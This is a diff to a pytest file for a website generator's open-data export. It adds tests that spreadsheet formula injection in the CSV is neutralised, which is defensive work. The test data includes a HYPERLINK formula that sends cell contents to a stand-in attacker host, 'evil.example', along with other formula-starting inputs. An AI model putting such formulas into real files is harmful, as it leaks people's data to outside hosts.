@@ -6,6 +6,9 @@ and 9 (the editor's local backend) have their tests elsewhere.
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import shutil
 import subprocess
 import sys
@@ -14,9 +17,10 @@ from pathlib import Path
 import pathspec
 import pytest
 
-from conftest import ROOT, wegwijzer
+from conftest import ROOT, TODAY, fixture_site, wegwijzer
 from wegwijzer.site.config import ConfigError, read_site_config
 from wegwijzer.site.content import page_problems, unsafe_files
+from wegwijzer.site.opendata import cell
 
 DEVELOPERS = "@wegwijzer-jeugd-en-veiligheid/ontwikkelaars"
 SHIPPED_CONFIG = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
@@ -211,3 +215,33 @@ def test_22_2_a_script_in_content_is_refused(tmp_path):
     assert not list((ROOT / "content").rglob("*.js"))
     assert (ROOT / "overrides" / "assets" / "javascripts" / "wegwijzer" / "finder.js").is_file()
     assert _owners("overrides/assets/javascripts/wegwijzer/finder.js") == [DEVELOPERS]
+
+
+# 3. The open-data CSV runs no formula -------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Klik")'
+
+
+def test_22_3_text_that_starts_a_formula_stays_text_in_the_csv(minimal_copy):
+    path = minimal_copy / "interventions.yaml"
+    path.write_text(path.read_text(encoding="utf-8").replace(
+        "    name: Lespakket Weerbaar\n",
+        f"    name: '{FORMULA}'\n    cost: '+31 euro per leerling'\n    goal: ' @SUM(A1)'\n", 1).replace(
+        "    name: Training Weerbaar\n", "    name: \"\\t-2+3\"\n", 1), encoding="utf-8")
+    site = fixture_site(TODAY, minimal_copy)
+    table = site.files()["open-data/csv/interventions.csv"].lstrip("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(table), delimiter=";"))
+    first, second = rows[0], rows[1]
+    assert first["name"] == "'" + FORMULA and first["cost"] == "'+31 euro per leerling"
+    assert first["goal"] == "' @SUM(A1)" and second["name"] == "'\t-2+3"
+    assert first["age"] == '{"min": 12, "max": 16}'  # groups of fields stay JSON
+    live = [value for row in rows for value in row.values() if value and value.lstrip(" \t\r\n")[:1] in "=+-@"]
+    assert live == []
+    catalogue = json.loads(site.files()["open-data/wegwijzer.json"])
+    assert catalogue["interventions"][0]["name"] == FORMULA  # the JSON keeps the text as it is
+
+
+@pytest.mark.parametrize("value, written", [(-5, "-5"), (2.5, "2.5"), (["=a", "b"], "'=a; b"), ("gratis", "gratis"),
+                                            ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("", "")])
+def test_22_3_numbers_stay_numbers_and_lists_are_one_cell(value, written):
+    assert cell(value) == written
